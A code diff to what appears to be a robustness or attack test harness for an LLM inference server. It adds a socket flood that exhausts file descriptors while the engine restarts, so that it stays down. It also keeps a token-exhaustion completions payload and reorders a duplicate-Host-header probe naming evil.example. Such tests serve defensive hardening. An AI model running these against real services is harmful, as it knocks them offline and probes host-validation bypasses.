@@ -13,6 +13,7 @@ import re
 import secrets
 import time
 from collections.abc import AsyncIterator
+from typing import Any
 
 import attack_wire
 from attack_wire import Wire
@@ -61,9 +62,14 @@ def restart_among(count: int, most_descriptors: int | None = None) -> Attack:
     async def act(target: Target) -> None:
         async with connections(target, count, ALIVE):
             await asyncio.sleep(2)
+            # Newcomers take the low descriptors that the engine leaves, whether there is room for
+            # them or not: what is left for the next engine are high ones, or none.
+            coming = asyncio.ensure_future(_keep_coming(target))
             target.server.kill_engine()
-            await asyncio.sleep(0.5)
-            back = await asyncio.to_thread(_is_back, target, target.bound_s - 10)
+            await asyncio.sleep(8)
+            coming.cancel()
+            await asyncio.wait({coming})
+            back = await asyncio.to_thread(_is_back, target, target.bound_s - 20)
             target.outcome.succeeded = not back
             target.outcome.note += "; it came back" if back else "; it stayed down"
             if not target.server.is_alive:
@@ -77,6 +83,20 @@ def restart_among(count: int, most_descriptors: int | None = None) -> Attack:
         act=act,
         most_descriptors=most_descriptors,
     )
+
+
+async def _keep_coming(target: Target) -> None:
+    wires: list[Wire] = []
+    try:
+        while True:
+            with contextlib.suppress(OSError):
+                wires.append(await Wire.open(target.port))
+            if len(wires) > 200:
+                wires.pop(0).abort()
+            await asyncio.sleep(0.001)
+    finally:
+        for wire in wires:
+            wire.abort()
 
 
 def _is_back(target: Target, limit_s: float) -> bool:
@@ -154,11 +174,17 @@ async def send_most(wire: Wire) -> None:
                 await wire.drain()
 
 
+FAN_OUT: dict[str, Any] = {
+    "prompt": [f"Tell me of mill {place}" for place in range(128)],
+    "n": 16,
+    "max_tokens": 2000,
+    "ignore_eos": True,
+}
+
+
 async def _fan_out(target: Target) -> None:
-    words = [f"Tell me of mill {place}" for place in range(128)]
-    body = {"prompt": words, "n": 16, "max_tokens": 2000, "ignore_eos": True}
     async with asyncio.timeout(target.bound_s):
-        await target.ask_together(COMPLETIONS, [body, body])
+        await target.ask_together(COMPLETIONS, [FAN_OUT, FAN_OUT])
 
 
 # -- row 11 ----------------------------------------------------------------------------------------
@@ -191,7 +217,7 @@ async def _digits(target: Target) -> None:
 
 
 async def _two_hosts(target: Target) -> None:
-    head = b"GET /version HTTP/1.1\r\nhost: 127.0.0.1\r\nhost: evil.example\r\n\r\n"
+    head = b"GET /version HTTP/1.1\r\nhost: evil.example\r\nhost: 127.0.0.1\r\n\r\n"
     said = await _say(target, head)
     target.outcome.succeeded, target.outcome.note = said.startswith("200"), said
 
